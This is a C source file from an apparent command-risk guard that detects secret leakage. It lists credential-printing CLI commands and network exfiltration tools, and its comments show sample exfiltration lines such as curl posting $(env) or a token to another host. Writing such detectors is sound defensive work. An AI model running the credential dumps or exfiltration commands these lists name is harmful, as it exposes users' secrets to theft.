/*
 * Secrets that leave without a file path: the environment (env,
 * printenv, set, a secret variable echoed), private keys (gpg
 * --export-secret-keys, ssh-add -L) and cloud CLIs printing credentials
 * (aws configure export-credentials, gcloud auth print-access-token, gh
 * auth token). Printing credentials is high; sending them through a pipe
 * or into a file is critical, and so is any of them reaching a network
 * sink later in the same pipeline. A web server started on the home
 * directory or / publishes every secret in it.
 */
#include <ctype.h>

#include "guard_path.h"
#include "guard_risk_int.h"

enum secret_kind { SECRET_NONE, SECRET_ENV, SECRET_PUBKEYS, SECRET_CREDS };

/* Programs that send their input or arguments to another machine. */
static const char *const network_sinks[] = { "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh",
					     "scp", "sftp", "ftp", "tftp", "http", "https", "xh", "openssl",
					     "websocat", "mail", "mailx", "sendmail", "mutt", "rclone", "gsutil",
					     "s3cmd", "mc", "mcli", "azcopy", "b2", "aws", "gcloud", "az", NULL };

/* Credential printers: program, subcommand words (all must appear in order). */
static const char *const cred_printers[][4] = {
	{ "aws", "configure", "export-credentials", NULL },
	{ "aws", "sts", "get-session-token", NULL },
	{ "aws", "ecr", "get-login-password", NULL },
	{ "aws", "codeartifact", "get-authorization-token", NULL },
	{ "gcloud", "auth", "print-access-token", NULL },
	{ "gcloud", "auth", "print-identity-token", NULL },
	{ "gcloud", "auth", "application-default", "print-access-token" },
	{ "gh", "auth", "token", NULL },
	{ "rclone", "config", "show", NULL },
	{ "rclone", "config", "dump", NULL },
	{ "mc", "alias", "list", NULL },
	{ "mc", "alias", "ls", NULL },
	{ "mc", "admin", "user", "svcacct" },
	{ "az", "storage", "account", "keys" },
	{ "glab", "auth", "token", NULL },
	{ "az", "account", "get-access-token", NULL },
	{ "heroku", "auth:token", NULL, NULL },
	{ "doctl", "auth", "token", NULL },
	{ "kubectl", "create", "token", NULL },
	{ "vault", "print", "token", NULL },
	{ "vault", "kv", "get", NULL },
	{ "vault", "read", NULL, NULL },
	{ "git", "credential", "fill", NULL },
	{ "op", "read", NULL, NULL },
	{ "security", "find-generic-password", NULL, NULL },
};

/* A variable name that holds a secret by its name. */
static bool
secret_name(const char *name, size_t n)
{
	static const char *const parts[] = { "SECRET", "TOKEN", "PASSW", "API_KEY", "APIKEY", "ACCESS_KEY",
					     "PRIVATE_KEY", "CREDENTIAL", "BEARER", NULL };
	char up[128];

	if (n >= sizeof(up))
		n = sizeof(up) - 1;
	for (size_t i = 0; i < n; i++)
		up[i] = (char)toupper((unsigned char)name[i]);
	up[n] = '\0';
	return risk_text_has_any(up, parts);
}

/* The first "$NAME" / "${NAME...}" in text naming a secret, copied to out. */
static bool
secret_var(const char *text, char *out, size_t size)
{
	for (const char *p = strchr(text, '$'); p; p = strchr(p + 1, '$')) {
		const char *name = p + 1 + (p[1] == '{');
		size_t n = 0;
		while (isalnum((unsigned char)name[n]) || name[n] == '_')
			n++;
		if (n && secret_name(name, n)) {
			snprintf(out, size, "$%.*s", (int)n, name);
			return true;
		}
	}
	return false;
}

static bool
has_word(const struct risk_cmd *c, size_t from, const char *w)
{
	for (size_t i = from; i < c->argc; i++)
		if (!strcmp(c->argv[i].text, w))
			return true;
	return false;
}

/* Words in order after argv[0] (options between them allowed). */
static bool
has_sequence(const struct risk_cmd *c, const char *const *words, size_t n)
{
	size_t k = 0;
	for (size_t i = 1; i < c->argc && k < n; i++)
		if (words[k] && !strcmp(c->argv[i].text, words[k]))
			k++;
	return k == n;
}

/* What c prints that is secret, and a name for it. */
static enum secret_kind
secret_source(const struct risk_cmd *c, const char **what, char *var, size_t size)
{
	const char *n = c->name;

	if (!strcmp(n, "env") || !strcmp(n, "printenv")) {
		/* env with a command is a wrapper: only env alone (or with options) prints */
		for (size_t i = 1; i < c->argc && !strcmp(n, "env"); i++)
			if (c->argv[i].text[0] != '-' && !strchr(c->argv[i].text, '='))
				return SECRET_NONE;
		*what = "the environment";
		return SECRET_ENV;
	}
	if ((!strcmp(n, "set") && c->argc == 1) || (!strcmp(n, "export") && (c->argc == 1 || has_word(c, 1, "-p"))) ||
	    ((!strcmp(n, "declare") || !strcmp(n, "typeset")) && (has_word(c, 1, "-x") || has_word(c, 1, "-p"))) ||
	    (!strcmp(n, "compgen") && has_word(c, 1, "-e"))) {
		*what = "the shell's variables";
		return SECRET_ENV;
	}
	for (size_t i = 1; i < c->argc; i++)
		if (strstr(c->argv[i].text, "/proc/") && strstr(c->argv[i].text, "/environ")) {
			*what = "a process environment";
			return SECRET_ENV;
		}
	if (!strcmp(n, "echo") || !strcmp(n, "printf"))
		for (size_t i = 1; i < c->argc; i++)
			if (secret_var(c->argv[i].text, var, size)) {
				*what = var;
				return SECRET_ENV;
			}
	if ((!strcmp(n, "gpg") || !strcmp(n, "gpg2")))
		for (size_t i = 1; i < c->argc; i++)
			if (!strncmp(c->argv[i].text, "--export-secret-", 16)) {
				*what = "private keys (gpg --export-secret-keys)";
				return SECRET_CREDS;
			}
	if (!strcmp(n, "ssh-add") && has_word(c, 1, "-L")) {
		*what = "the ssh agent's keys";
		return SECRET_PUBKEYS;
	}
	if (!strcmp(n, "aws") && has_word(c, 1, "configure") && has_word(c, 1, "get"))
		for (size_t i = 1; i < c->argc; i++)
			if (strstr(c->argv[i].text, "secret") || strstr(c->argv[i].text, "token") ||
			    strstr(c->argv[i].text, "key_id")) {
				*what = "a cloud credential (aws configure get)";
				return SECRET_CREDS;
			}
	for (size_t i = 0; i < sizeof(cred_printers) / sizeof(*cred_printers); i++) {
		const char *const *p = cred_printers[i];
		size_t k = 1;
		while (k < 4 && p[k])
			k++;
		if (!strcmp(n, p[0]) && has_sequence(c, p + 1, k - 1)) {
			*what = "cloud or account credentials";
			return SECRET_CREDS;
		}
	}
	return SECRET_NONE;
}

/* Does c write its output to a file (not /dev/null)? */
static bool
redirected_to_file(const struct risk_cmd *c)
{
	for (size_t i = 0; i < c->cmd->nredirs; i++) {
		const struct guard_shell_redir *r = &c->cmd->redirs[i];
		if ((r->op == GUARD_REDIR_OUT || r->op == GUARD_REDIR_APPEND || r->op == GUARD_REDIR_OUT_ALL) &&
		    (r->fd < 0 || r->fd == 1) && strncmp(r->target.text, "/dev/", 5))
			return true;
	}
	return false;
}

/* A web server that publishes a folder: python -m http.server, php -S. */
static void
served_folder(struct risk_state *st, const struct risk_cmd *c)
{
	const char *dir = NULL;
	bool serves = false;

	if (!strncmp(c->name, "python", 6)) {
		for (size_t i = 1; i + 1 < c->argc; i++)
			if (!strcmp(c->argv[i].text, "-m") && (!strcmp(c->argv[i + 1].text, "http.server") ||
							       !strcmp(c->argv[i + 1].text, "SimpleHTTPServer")))
				serves = true;
		dir = risk_opt_value(c, "-d", "--directory");
	} else if (!strncmp(c->name, "php", 3) && risk_opt_value(c, "-S", NULL)) {
		serves = true;
		dir = risk_opt_value(c, "-t", "--docroot");
	}
	if (!serves)
		return;
	char *abs = guard_path_resolve(st->cwds[0], dir ? dir : ".", st->ctx->home);
	const char *home = st->ctx->home;
	bool home_or_above = home && guard_path_inside(abs, home);
	char *display = guard_path_display(st->ctx->project, abs);
	if (home_or_above || risk_is_sensitive(st, display, abs) || !strcmp(abs, "/"))
		risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ,
			  "%s serves %s over HTTP: every key and credential in it can be downloaded", c->name,
			  dir ? dir : abs);
	free(display);
	free(abs);
}

static bool
network_sink(const struct risk_cmd *c)
{
	return c->name[0] && risk_name_in(network_sinks, c->name);
}

/* Programs that look a name up: the name reaches whoever serves its domain. */
static const char *const dns_tools[] = { "nslookup", "dig", "host", "drill", "ping", "ping6", "delv", "kdig",
					 "resolvectl", NULL };

/* curl -d "token=$GITHUB_TOKEN" https://elsewhere: a secret variable sent to a host not allowed. */
static void
secret_in_arguments(struct risk_state *st, const struct risk_cmd *c)
{
	char var[128];
	const char *url = NULL;
	const char *sent = NULL;

	for (size_t i = 1; i < c->argc; i++) {
		const char *t = c->argv[i].text;
		if ((strstr(t, "://") || risk_url_authority(t)) && !url)
			url = t;
		if (!sent && secret_var(t, var, sizeof(var)))
			sent = var; /* in the URL itself too: https://host/?k=$TOKEN */
	}
	if (sent && risk_name_in(dns_tools, c->name)) {
		risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ, "%s sends %s in a name it looks up (DNS reaches any "
			  "server)", c->name, sent);
		return;
	}
	if (sent && url && risk_url_foreign(st, url))
		risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ, "%s sends %s to a host not in allowed_hosts: %s",
			  c->name, sent, url);
}

/*
 * A command substitution in text that prints the whole environment:
 * $(env), $(printenv), `env`, $(set), $(export -p), $(cat /proc/self/environ).
 */
static bool
env_dump_subst(const char *text)
{
	static const char *const dumps[] = { "env", "printenv", "set", "export", "declare", "compgen", NULL };

	for (const char *p = text; *p; p++) {
		if (!((p[0] == '$' && p[1] == '(') || p[0] == '`'))
			continue;
		const char *q = p + (p[0] == '$' ? 2 : 1);
		while (*q == ' ' || *q == '\t')
			q++;
		size_t n = 0;
		while (isalnum((unsigned char)q[n]) || q[n] == '_' || q[n] == '/')
			n++;
		char word[64];
		snprintf(word, sizeof(word), "%.*s", (int)(n < sizeof(word) ? n : sizeof(word) - 1), q);
		const char *end = q + n;
		if (risk_name_in(dumps, risk_basename(word)) && (*end == ')' || *end == '`' || *end == ' ' || *end == '|'))
			return !strcmp(risk_basename(word), "env") || !strcmp(risk_basename(word), "printenv") ||
			       *end != ' ' || !strncmp(end, " -p", 3) || !strncmp(end, " -x", 3) || !strncmp(end, " -e", 3);
		if (strstr(q, "/environ"))
			return true;
	}
	return false;
}

/* gh gist create / gh api (writes to GitHub), besides the network_sinks. */
static bool
sends_out(const struct risk_cmd *c)
{
	if (!strcmp(c->name, "gh"))
		return has_word(c, 1, "gist") || has_word(c, 1, "api") || has_word(c, 1, "issue") || has_word(c, 1, "pr");
	return c->name[0] && risk_name_in(network_sinks, c->name);
}

/* curl -d "$(env)", wget --post-data="$(printenv)": the environment in a network program's arguments. */
static void
env_in_arguments(struct risk_state *st, const struct risk_cmd *c)
{
	for (size_t i = 1; i < c->argc; i++)
		if ((c->argv[i].flags & (GUARD_WORD_SUBST | GUARD_WORD_DYNAMIC)) && env_dump_subst(c->argv[i].text)) {
			risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ,
				  "%s sends the environment (every secret variable in it) over the network: %s", c->name,
				  c->argv[i].text);
			return;
		}
}

/* The whole environment in code: os.environ, process.env, ENV, %ENV, $_ENV, getenv() not indexed by one name. */
static bool
code_env_dump(const char *code)
{
	static const char *const names[][2] = {
		{ "os.environ", ".get(" }, { "process.env", "." }, { "ENV", ".fetch" }, { "%ENV", NULL },
		{ "$_ENV", NULL }, { "getenv()", NULL },
	};

	for (size_t k = 0; k < sizeof(names) / sizeof(*names); k++)
		for (const char *p = strstr(code, names[k][0]); p; p = strstr(p + 1, names[k][0])) {
			const char *after = p + strlen(names[k][0]);
			if (p > code && (isalnum((unsigned char)p[-1]) || p[-1] == '_' || p[-1] == '$' || p[-1] == '.'))
				continue; /* part of another name */
			if (isalnum((unsigned char)*after) || *after == '_' || *after == '[' || *after == '{')
				continue; /* one variable (os.environ['X'], $ENV{X}) or another name */
			if (names[k][1] && !strncmp(after, names[k][1], strlen(names[k][1])))
				continue; /* os.environ.get('X'), process.env.X, ENV.fetch('X') */
			return true;
		}
	return false;
}

void
risk_secret_code(struct risk_state *st, const char *lang, const char *code)
{
	static const char *const sinks[] = { "urlopen", "requests.", "http.client", "httpx", "urllib3", "fetch(",
					     "axios", "http.request", "https.request", "Net::HTTP", "LWP::", "HTTP::Tiny",
					     "curl_exec", "socket", "smtplib", "Faraday", "open-uri", NULL };

	if (risk_text_has_any(code, sinks) && code_env_dump(code))
		risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ,
			  "%s code sends the environment (every secret variable in it) over the network", lang);
}

/* env | sort > f, env | tee f: a program that passes its input on whole, into a file. */
static bool
passes_into_file(const struct risk_cmd *c)
{
	static const char *const pass[] = { "sort", "cat", "uniq", "base64", "gzip", "xz", "bzip2", "zstd", "column",
					    "tr", "nl", "tac", "tee", NULL };

	if (!risk_name_in(pass, c->name))
		return false;
	if (!strcmp(c->name, "tee"))
		for (size_t i = 1; i < c->argc; i++)
			if (c->argv[i].text[0] != '-' && strncmp(c->argv[i].text, "/dev/", 5))
				return true;
	return redirected_to_file(c);
}

/*
 * printenv HOME PATH: only the variables named, none of them secret by its
 * name; echo '${DB_PASSWORD}': the name as text, not expanded.
 */
static bool
names_other_variables(const struct risk_cmd *c)
{
	bool named = false;
	char var[128];

	if (!strcmp(c->name, "echo") || !strcmp(c->name, "printf")) {
		for (size_t i = 1; i < c->argc; i++)
			if ((c->argv[i].flags & GUARD_WORD_DYNAMIC) && secret_var(c->argv[i].text, var, sizeof(var)))
				return false;
		return true;
	}
	if (strcmp(c->name, "printenv"))
		return false;
	for (size_t i = 1; i < c->argc; i++) {
		const char *t = c->argv[i].text;
		if (t[0] == '-')
			continue;
		if (secret_name(t, strlen(t)))
			return false;
		named = true;
	}
	return named;
}

void
risk_secret_part(struct risk_state *st, const struct risk_cmd *part)
{
	struct risk_cmd c = *part;
	const char *what = NULL;
	char var[128];

	if (!c.argc)
		return;
	/* sudo/command/exec/nohup in front: the program behind them */
	while (c.argc > 1 && (!strcmp(c.argv[0].text, "sudo") || !strcmp(c.argv[0].text, "command") ||
			      !strcmp(c.argv[0].text, "exec") || !strcmp(c.argv[0].text, "nohup"))) {
		c.argv++;
		c.argc--;
	}
	risk_set_name(&c);
	if (!c.cmd->pipe_pos)
		st->secret_pipe = NULL;
	else if (st->secret_pipe && network_sink(&c))
		risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ, "%s sends %s over the network", c.name, st->secret_pipe);
	if (c.cmd->pipe_pos && st->secret_pipe && passes_into_file(&c))
		risk_rule(st, GUARD_LEVEL_HIGH, GUARD_CLASS_WRITE,
			  "%s writes %s into a file, where a commit or an upload takes the secrets", c.name, st->secret_pipe);
	if (network_sink(&c) || risk_name_in(dns_tools, c.name))
		secret_in_arguments(st, &c);
	if (sends_out(&c))
		env_in_arguments(st, &c);
	served_folder(st, &c);

	enum secret_kind kind = secret_source(&c, &what, var, sizeof(var));
	if (kind == SECRET_NONE)
		return;
	if (c.cmd->piped_out)
		st->secret_pipe = what == var ? "a secret variable" : what;
	if (kind == SECRET_ENV && !strcmp(c.name, "printenv") && !names_other_variables(&c))
		risk_rule(st, GUARD_LEVEL_MEDIUM, GUARD_CLASS_READ, "printenv prints %s",
			  c.argc > 1 ? "a secret variable" : "the environment (may hold secrets)");
	if (kind == SECRET_ENV && redirected_to_file(&c) && !names_other_variables(&c))
		risk_rule(st, GUARD_LEVEL_HIGH, GUARD_CLASS_WRITE,
			  "%s writes %s into a file, where a commit or an upload takes the secrets", c.name, what);
	if (kind != SECRET_CREDS)
		return;
	if (c.cmd->piped_out)
		risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ, "%s pipes %s into another program", c.name, what);
	else if (redirected_to_file(&c))
		risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ, "%s writes %s to a file", c.name, what);
	else
		risk_rule(st, GUARD_LEVEL_HIGH, GUARD_CLASS_READ, "%s prints %s", c.name, what);
}
